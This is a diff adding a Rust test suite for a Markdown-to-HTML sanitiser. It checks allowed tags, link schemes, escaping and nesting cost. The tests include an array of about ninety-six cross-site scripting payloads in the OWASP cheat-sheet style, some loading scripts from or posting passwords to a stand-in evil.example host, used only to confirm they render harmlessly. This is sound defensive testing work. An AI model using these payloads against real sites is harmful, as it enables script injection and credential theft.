@@ -1,0 +1,377 @@
+//! Markup: what people write reads well, and nothing they write runs, leaves the page's frame or calls elsewhere.
+
+use formats::markup::{escaped, html, text};
+use proptest::prelude::*;
+
+const TAGS: [&str; 23] = [
+    "p",
+    "br",
+    "strong",
+    "em",
+    "del",
+    "code",
+    "pre",
+    "blockquote",
+    "ul",
+    "ol",
+    "li",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "a",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "hr",
+];
+
+/// What is wrong with the HTML, looked at tag by tag.
+pub fn trouble(html: &str) -> Option<String> {
+    let mut rest = html;
+    while let Some(open) = rest.find('<') {
+        let inside = &rest[open + 1..];
+        let Some(close) = inside.find('>') else { return Some(format!("a tag without end: {rest:?}")) };
+        let (tag, behind) = (&inside[..close], &inside[close + 1..]);
+        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
+        if !TAGS.contains(&name.trim_start_matches('/')) {
+            return Some(format!("the tag {name:?}"));
+        }
+        if let Some(wrong) = wrong_attribute(name, attributes) {
+            return Some(wrong);
+        }
+        rest = behind;
+    }
+    None
+}
+
+fn wrong_attribute(tag: &str, attributes: &str) -> Option<String> {
+    let mut rest = attributes.trim();
+    while !rest.is_empty() {
+        let Some((name, behind)) = rest.split_once("=\"") else { return Some(format!("{rest:?} in {tag}")) };
+        let Some((value, behind)) = behind.split_once('"') else { return Some(format!("{rest:?} in {tag}")) };
+        let fine = match (tag, name) {
+            ("a", "href") => {
+                ["https://", "http://", "mailto:"].iter().any(|scheme| value.to_lowercase().starts_with(scheme))
+            }
+            ("a", "rel") => value == "nofollow noopener noreferrer",
+            ("ol", "start") => value.bytes().all(|b| b.is_ascii_digit()),
+            _ => false,
+        };
+        if !fine {
+            return Some(format!("{name}={value:?} in {tag}"));
+        }
+        rest = behind.trim();
+    }
+    None
+}
+
+/// What a reader sees, one space between words.
+fn seen(html: &str) -> String {
+    let mut text = String::new();
+    for (nth, piece) in html.split('<').enumerate() {
+        let shown = if nth == 0 { piece } else { piece.split_once('>').unwrap().1 };
+        if piece.starts_with("br") {
+            text.push(' ');
+        }
+        text.push_str(shown);
+    }
+    let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&nbsp;", "\u{a0}");
+    one_space(&text.replace("&amp;", "&"))
+}
+
+fn one_space(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+#[test]
+fn what_people_write_reads_as_they_meant_it() {
+    for (markdown, expected) in [
+        ("One.\n\nTwo  \nthree", "<p>One.</p>\n<p>Two<br>\nthree</p>\n"),
+        ("*a* **b** ~~c~~ `d<e`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d&lt;e</code></p>\n"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
+        ("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"),
+        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
+        ("# a\n## b\n### c\n###### d", "<h3>a</h3>\n<h4>b</h4>\n<h5>c</h5>\n<h6>d</h6>\n"),
+        ("```rust\nfn x() {}\n```", "<pre><code>fn x() {}\n</code></pre>\n"),
+        ("a\n\n---\n", "<p>a</p>\n<hr>\n"),
+        (
+            "[a](https://x.example/?q=1&r=2 \"t\")",
+            "<p><a href=\"https://x.example/?q=1&amp;r=2\" rel=\"nofollow noopener noreferrer\">a</a></p>\n",
+        ),
+        (
+            "<ada@x.example>",
+            "<p><a href=\"mailto:ada@x.example\" rel=\"nofollow noopener noreferrer\">ada@x.example</a></p>\n",
+        ),
+        (
+            "|a|b|\n|:-|-:|\n|1|2|",
+            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>\n",
+        ),
+        ("![a lamp](https://x.example/l.png)", "<p>a lamp</p>\n"),
+        ("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>\n"),
+        ("[ours](/2023) [none]()", "<p>ours none</p>\n"),
+        ("", ""),
+    ] {
+        assert_eq!(html(markdown).as_str(), expected, "{markdown:?}");
+    }
+}
+
+/// Known tricks, in the manner of OWASP's cheat sheets, for HTML and for Markdown.
+const TRICKS: [&str; 96] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\t\n bar>",
+    "<<SCRIPT>alert(1);//<</SCRIPT>",
+    "<SCRIPT/SRC=\"https://evil.example/x.js\"></SCRIPT>",
+    "<SCRIPT/XSS SRC=\"https://evil.example/x.js\"></SCRIPT>",
+    "<SCRIPT a=\">\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
+    "\"><script>alert(1)</script>",
+    "';alert(String.fromCharCode(88,83,83))//\"><SCRIPT>alert(1)</SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
+    "<IMG SRC=\"('XSS')\"",
+    "<IMG LOWSRC=\"javascript:alert(1)\">",
+    "<img/src='x'/onerror=alert(1)>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<BODY ONLOAD=alert(1)>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
+    "<BODY BACKGROUND=\"javascript:alert(1)\">",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\">",
+    "<form action=\"https://evil.example\"><input name=password><button>ok</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<select onchange=alert(1)><option>1</select>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
+    "<STYLE>@import'https://evil.example/x.css';</STYLE>",
+    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x",
+    "<p style=\"background:url(javascript:alert(1))\" class=x id=main>x</p>",
+    "<DIV STYLE=\"width: expression(alert(1));\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
+    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"a=b\">",
+    "<BASE HREF=\"javascript:alert(1);//\">",
+    "<TABLE BACKGROUND=\"javascript:alert(1)\"><TD BACKGROUND=\"javascript:alert(1)\">",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
+    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
+    "<plaintext>x",
+    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
+    "<!--><script>alert(1)</script>-->",
+    "<!--\n\n<img src=x onerror=alert(1)>\n\n-->",
+    "<?xml version=\"1.0\"?><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!DOCTYPE html><script>alert(1)</script>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a onmouseover=\"alert(1)\">x</a>",
+    "<a href=\"https://x.example\" onclick=alert(1) style=x target=_blank>x</a>",
+    "<XSS ID=x tabindex=1 onfocus=alert(1)>",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+    "<\0script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](< javascript:alert(1)>)",
+    "[x](java\\script:alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](&#106;&#97;vascript:alert(1))",
+    "[x](&#x6A;avascript&colon;alert&lpar;1&rpar;)",
+    "[x](\u{1}javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd) [x](ftp://evil.example) [x](blob:x) [x](//evil.example) [x](/sign-out) [x](?a) [x](#b)",
+    "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,x> <vbscript:x>",
+    "[x][1]\n\n[1]: javascript:alert(1) \"title\"",
+    "[x]\n\n[x]: <data:text/html,<script>alert(1)</script>>",
+    "[![x](javascript:alert(1))](javascript:alert(2))",
+    "![x](https://evil.example/pixel.png\" onerror=\"alert(1))",
+    "[x](https://x.example \"\\\" onmouseover=\\\"alert(1)\")",
+    "[x](https://x.example/\"onmouseover=\"alert(1) 'a\" onclick=\"b')",
+    "`<script>alert(1)</script>`\n\n```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
+    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | <svg onload=alert(1)> |",
+];
+
+#[test]
+fn no_known_trick_gets_through() {
+    for trick in TRICKS {
+        for around in [
+            "{}",
+            "> {}",
+            "- {}\n- {}",
+            "**{}**",
+            "# {}",
+            "[{}](https://x.example)",
+            "a {} b",
+            "<div>\n{}\n\n</div>",
+            "1. > {}",
+        ] {
+            let rendered = html(&around.replace("{}", trick));
+            assert_eq!(trouble(rendered.as_str()), None, "{trick:?} within {around:?}: {}", rendered.as_str());
+        }
+    }
+}
+
+#[test]
+fn a_script_is_never_a_link_and_its_words_remain() {
+    for trick in TRICKS.iter().filter(|trick| trick.starts_with("[x](") && !trick.contains("https://")) {
+        let rendered = html(trick);
+        assert!(!rendered.as_str().contains("<a"), "{trick:?}: {}", rendered.as_str());
+        assert!(seen(rendered.as_str()).contains('x'), "{trick:?}");
+    }
+    assert_eq!(seen(html("<script>alert(1)</script>").as_str()), "<script>alert(1)</script>");
+}
+
+#[test]
+fn the_check_itself_finds_trouble() {
+    for bad in [
+        "<script>",
+        "<p onclick=\"x\">",
+        "<a href=\"javascript:x\">",
+        "<a href='https://x'>",
+        "<p",
+        "<a href=\"/x\">",
+        "<p class=\"x\">",
+        "<!-- x -->",
+        "<ol start=\"x\">",
+    ] {
+        assert!(trouble(bad).is_some(), "{bad}");
+    }
+}
+
+#[test]
+fn plain_text_keeps_paragraphs_lists_and_addresses() {
+    for (markdown, expected) in [
+        ("Dear **Ada**,\n\n\n\nwe `greet` *you*\nwarmly.", "Dear Ada,\n\nwe greet you\nwarmly."),
+        ("[here](https://x.example) or <https://y.example>", "here <https://x.example> or https://y.example"),
+        ("<ada@x.example> [ada@x.example](mailto:ada@x.example)", "ada@x.example ada@x.example"),
+        ("See:\n\n- a\n- b\n  - c\n\nEnd", "See:\n\n- a\n- b\n  - c\n\nEnd"),
+        ("9. a\n\n   more\n10. b", "9. a\n\n   more\n10. b"),
+        ("> a\n> b\n\nc", "> a\n> b\n\nc"),
+        ("# Head\ntext\n\n---\n\nx", "Head\n\ntext\n\n---\n\nx"),
+        ("|a|b|\n|-|-|\n|1|2|\n\nx", "a | b\n1 | 2\n\nx"),
+        ("```\na\n  b\n```\nc", "a\n  b\n\nc"),
+        ("[x](javascript:alert(1)) <b>y</b>", "x <b>y</b>"),
+        ("1\\*2 &amp; 3", "1*2 & 3"),
+        ("", ""),
+    ] {
+        assert_eq!(text(markdown), expected, "{markdown:?}");
+    }
+}
+
+#[test]
+fn escaped_text_begins_nothing() {
+    for plain in [
+        "# no heading",
+        "1. no list",
+        "- no list",
+        "+ x",
+        "* x",
+        "> no quotation",
+        "    no code",
+        "\t no code",
+        "***",
+        "---",
+        "a\n===",
+        "```",
+        "~~~",
+        "|a|b|\n|-|-|\n|1|2|",
+        "[x]: https://x.example",
+        "<https://x.example>",
+        "[x](https://x.example)",
+        "![x](https://x.example/x.png)",
+        "<b>x</b>",
+        "&amp; &#35;",
+        "a  \nb",
+        "a\\",
+        "\u{1}    x",
+        "1986\\. A year",
+        "![",
+        "`x`",
+        "~~x~~",
+        "a\r\n\r\n\r\n    b",
+    ] {
+        let rendered = html(&escaped(plain));
+        let inner = rendered.as_str().strip_prefix("<p>").and_then(|rest| rest.strip_suffix("</p>\n")).unwrap();
+        assert!(!inner.replace("<br>", "").contains('<'), "{plain:?}: {inner}");
+        assert_eq!(seen(rendered.as_str()), one_space(&plain.replace('\u{1}', "")), "{plain:?}");
+    }
+}
+
+#[test]
+fn endless_nesting_costs_no_more_than_its_length() {
+    let begun = std::time::Instant::now();
+    for piece in [
+        ">", "- ", "[", "](", "*", "**a ", "_a", "`", "~~a", "<", "<a ", "![", "|a", "1. ", "#", "&", "[a](<b", "\\",
+        "<!--", "<div>\n",
+    ] {
+        let long = piece.repeat(20_000 / piece.len());
+        assert_eq!(trouble(html(&long).as_str()), None, "{piece:?}");
+        let _ = (text(&long), html(&escaped(&long)));
+    }
+    let deep: String = (0..300).map(|depth| format!("{}- x\n", "  ".repeat(depth))).collect();
+    assert_eq!(trouble(html(&deep).as_str()), None);
+    assert!(begun.elapsed().as_secs() < 60, "it took {:?}", begun.elapsed());
+}
+
+proptest! {
+    #[test]
+    fn nothing_that_anybody_writes_is_more_than_marked_up_text(markdown in any::<String>()) {
+        let rendered = html(&markdown);
+        prop_assert_eq!(trouble(rendered.as_str()), None, "{}", rendered.as_str());
+    }
+
+    #[test]
+    fn nor_is_any_mixture_of_tricks(picks in proptest::collection::vec((0usize..96, 0usize..40, 0usize..12), 1..8)) {
+        const GLUE: [&str; 12] = ["", " ", "\n", "\n\n", "> ", "- ", "`", "\"", "<", "](", "*", "| "];
+        let piece = |(trick, cut, glue): &(usize, usize, usize)| {
+            let trick: String = TRICKS[*trick].chars().skip(cut / 4).take(90 - cut * 2).collect();
+            format!("{trick}{}", GLUE[*glue])
+        };
+        let markdown: String = picks.iter().map(piece).collect();
+        let rendered = html(&markdown);
+        prop_assert_eq!(trouble(rendered.as_str()), None, "{:?}", markdown);
+    }
+
+    #[test]
+    fn escaped_text_is_seen_as_it_is(lines in proptest::collection::vec("[!-~ \t\\PC]{0,30}", 0..4)) {
+        let plain = lines.join("\n");
+        let rendered = html(&escaped(&plain));
+        prop_assert_eq!(seen(rendered.as_str()), one_space(&plain));
+        prop_assert_eq!(one_space(&text(&escaped(&plain))), one_space(&plain));
+    }
+
+    #[test]
+    fn escaped_text_is_one_paragraph_wherever_it_stands(plain in "[ -~\n\r\t]{0,60}") {
+        let rendered = html(&format!("a {} b", escaped(&plain)));
+        let inner = rendered.as_str().replace("<br>", "");
+        prop_assert_eq!(inner.matches('<').count(), 2, "{}", inner);
+    }
+}
